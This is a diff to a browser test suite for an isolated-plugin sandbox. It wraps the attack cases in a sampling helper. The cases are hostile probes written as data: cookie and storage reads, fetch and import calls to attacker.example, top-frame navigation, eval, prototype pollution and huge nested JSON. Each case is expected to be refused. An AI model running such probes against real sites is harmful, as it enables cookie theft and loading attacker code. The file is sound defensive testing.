@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { block } from '../browser/blocks.ts';
 import { frameOf } from '../browser/isolated-frame.ts';
 import { type OpenPage, openPage } from '../browser/open-page.ts';
+import { sampled } from '../browser/sampled.ts';
 import { settled } from '../browser/settled.ts';
 
 /* The code of these tests runs inside the frame of an isolated plugin, like the plugin's own code. It can change
@@ -76,37 +77,39 @@ describe('an isolated plugin that attacks', () => {
     });
     afterAll(() => open[Symbol.asyncDispose]());
 
-    it.each([
-      ['cookies', 'document.cookie', 'SecurityError'],
-      ['writing a cookie', '(document.cookie = "a=b")', 'SecurityError'],
-      ['localStorage', 'localStorage.length', 'SecurityError'],
-      ['sessionStorage', 'sessionStorage.length', 'SecurityError'],
-      ['indexedDB', 'indexedDB.open("x")', 'SecurityError'],
-      ['caches', 'caches.open("x")', 'SecurityError'],
-      ['the document of the page', 'parent.document', 'SecurityError'],
-      ['the runtime of the page', 'parent.plinth', 'SecurityError'],
-      ['the address of the page', 'top.location.href', 'SecurityError'],
-      ['navigation of the page', '(top.location.href = "https://attacker.example/")', 'SecurityError'],
-      [
-        'the frames beside it',
-        '[...Array(9).keys()].map((n) => parent.frames[n]).find((other) => other && other !== self).document',
-        'SecurityError',
-      ],
-      ['eval', 'eval("1")', 'EvalError'],
-      ['a function made of text', 'new Function("return 1")()', 'EvalError'],
-      ['markup made of text', '(document.body.innerHTML = "<b>x</b>")', 'TypeError'],
-      ['a Trusted Types policy of its own', 'trustedTypes.createPolicy("x", {})', 'TypeError'],
-      ['a request to another host', 'fetch("https://attacker.example/")', 'TypeError'],
-      ['a request to the site', 'fetch("/plain", { credentials: "include" })', 'TypeError'],
-      ['a script of another host', 'import("https://attacker.example/x.js")', 'TypeError'],
-      ['a script of another plugin', 'import("/_plinth/host/kernel.js")', 'TypeError'],
-      ['a script made of text', 'import("data:text/javascript,export default 1")', 'TypeError'],
-      ['storage through the host', 'probe.storage.local.set("a", "b")', 'PlinthError'],
-      ['cookies through the host', 'probe.cookie.get("crumb")', 'PlinthError'],
-      ['requests of the host', 'probe.use({ id: "plinth.http" })', 'PlinthError'],
-      ['consent in the name of the visitor', 'probe.use({ id: "plinth.consent-control" })', 'PlinthError'],
-      ['a service that it does not declare', 'probe.use({ id: "fixture.other" })', 'PlinthError'],
-    ])('is refused: %s', async (_, attack, error) => {
+    it.each(
+      sampled([
+        ['cookies', 'document.cookie', 'SecurityError'],
+        ['writing a cookie', '(document.cookie = "a=b")', 'SecurityError'],
+        ['localStorage', 'localStorage.length', 'SecurityError'],
+        ['sessionStorage', 'sessionStorage.length', 'SecurityError'],
+        ['indexedDB', 'indexedDB.open("x")', 'SecurityError'],
+        ['caches', 'caches.open("x")', 'SecurityError'],
+        ['the document of the page', 'parent.document', 'SecurityError'],
+        ['the runtime of the page', 'parent.plinth', 'SecurityError'],
+        ['the address of the page', 'top.location.href', 'SecurityError'],
+        ['navigation of the page', '(top.location.href = "https://attacker.example/")', 'SecurityError'],
+        [
+          'the frames beside it',
+          '[...Array(9).keys()].map((n) => parent.frames[n]).find((other) => other && other !== self).document',
+          'SecurityError',
+        ],
+        ['eval', 'eval("1")', 'EvalError'],
+        ['a function made of text', 'new Function("return 1")()', 'EvalError'],
+        ['markup made of text', '(document.body.innerHTML = "<b>x</b>")', 'TypeError'],
+        ['a Trusted Types policy of its own', 'trustedTypes.createPolicy("x", {})', 'TypeError'],
+        ['a request to another host', 'fetch("https://attacker.example/")', 'TypeError'],
+        ['a request to the site', 'fetch("/plain", { credentials: "include" })', 'TypeError'],
+        ['a script of another host', 'import("https://attacker.example/x.js")', 'TypeError'],
+        ['a script of another plugin', 'import("/_plinth/host/kernel.js")', 'TypeError'],
+        ['a script made of text', 'import("data:text/javascript,export default 1")', 'TypeError'],
+        ['storage through the host', 'probe.storage.local.set("a", "b")', 'PlinthError'],
+        ['cookies through the host', 'probe.cookie.get("crumb")', 'PlinthError'],
+        ['requests of the host', 'probe.use({ id: "plinth.http" })', 'PlinthError'],
+        ['consent in the name of the visitor', 'probe.use({ id: "plinth.consent-control" })', 'PlinthError'],
+        ['a service that it does not declare', 'probe.use({ id: "fixture.other" })', 'PlinthError'],
+      ]),
+    )('is refused: %s', async (_, attack, error) => {
       const frame = await attackedFrame(open.page);
       expect(await refusal(frame, attack)).toBe(error);
       await pageWorks(open);
@@ -155,15 +158,17 @@ describe('an isolated plugin that attacks', () => {
     await pageWorks(open);
   });
 
-  it.each([
-    ['the code of an event that only the host sends', `{"t":"emit","name":"page:destroyed"}`],
-    ['an event that it does not declare', `{"t":"emit","name":"cart:changed"}`],
-    ['a link without a click', `{"t":"link","href":"https://attacker.example/","newTab":false}`],
-    ['Escape without the focus', `{"t":"escape","shiftKey":false}`],
-    ['a hook that it does not declare', `{"t":"tap","hook":"escape"}`],
-    ['a result that nobody waits for', `{"t":"result","id":1}`],
-    ['a height of a million pixels', `{"t":"height","px":1000000}`],
-  ])('does not change the page: %s', async (_, message) => {
+  it.each(
+    sampled([
+      ['the code of an event that only the host sends', `{"t":"emit","name":"page:destroyed"}`],
+      ['an event that it does not declare', `{"t":"emit","name":"cart:changed"}`],
+      ['a link without a click', `{"t":"link","href":"https://attacker.example/","newTab":false}`],
+      ['Escape without the focus', `{"t":"escape","shiftKey":false}`],
+      ['a hook that it does not declare', `{"t":"tap","hook":"escape"}`],
+      ['a result that nobody waits for', `{"t":"result","id":1}`],
+      ['a height of a million pixels', `{"t":"height","px":1000000}`],
+    ]),
+  )('does not change the page: %s', async (_, message) => {
     await using open = await openPage(url);
     const { page, log } = open;
     const frame = await attackedFrame(page);
@@ -180,16 +185,18 @@ describe('an isolated plugin that attacks', () => {
     expect(log.reports.filter(({ code }) => code !== 'PLINTH-CAP-001')).toEqual([]);
   });
 
-  it.each([
-    ['no JSON', 'attack'],
-    ['an unknown message', '{"t":"attack"}'],
-    ['an unknown field', '{"t":"ready","more":1}'],
-    ['pollution of a prototype', '{"t":"emit","name":"fixture:told","data":{"__proto__":{"polluted":1}}}'],
-    [
-      'a hundred thousand levels',
-      `{"t":"emit","name":"fixture:told","data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
-    ],
-  ])('is removed after a message with %s', async (_, message) => {
+  it.each(
+    sampled([
+      ['no JSON', 'attack'],
+      ['an unknown message', '{"t":"attack"}'],
+      ['an unknown field', '{"t":"ready","more":1}'],
+      ['pollution of a prototype', '{"t":"emit","name":"fixture:told","data":{"__proto__":{"polluted":1}}}'],
+      [
+        'a hundred thousand levels',
+        `{"t":"emit","name":"fixture:told","data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
+      ],
+    ]),
+  )('is removed after a message with %s', async (_, message) => {
     await using open = await openPage(url);
     await forge(await attackedFrame(open.page), message);
     await isRemoved(open, 'PLINTH-FRAME-004');
@@ -228,12 +235,14 @@ describe('an isolated plugin that attacks', () => {
     await isRemoved(open, 'PLINTH-FRAME-005');
   });
 
-  it.each([
-    ['another page of the site', '/plain'],
-    ['another site', 'https://attacker.example/'],
-    ['a document made of text', 'data:text/html,attacker'],
-    ['the same document again', ''],
-  ])('is removed when it navigates its own frame to %s', async (_, target) => {
+  it.each(
+    sampled([
+      ['another page of the site', '/plain'],
+      ['another site', 'https://attacker.example/'],
+      ['a document made of text', 'data:text/html,attacker'],
+      ['the same document again', ''],
+    ]),
+  )('is removed when it navigates its own frame to %s', async (_, target) => {
     await using open = await openPage(url);
     const frame = await attackedFrame(open.page);
     const requests: string[] = [];
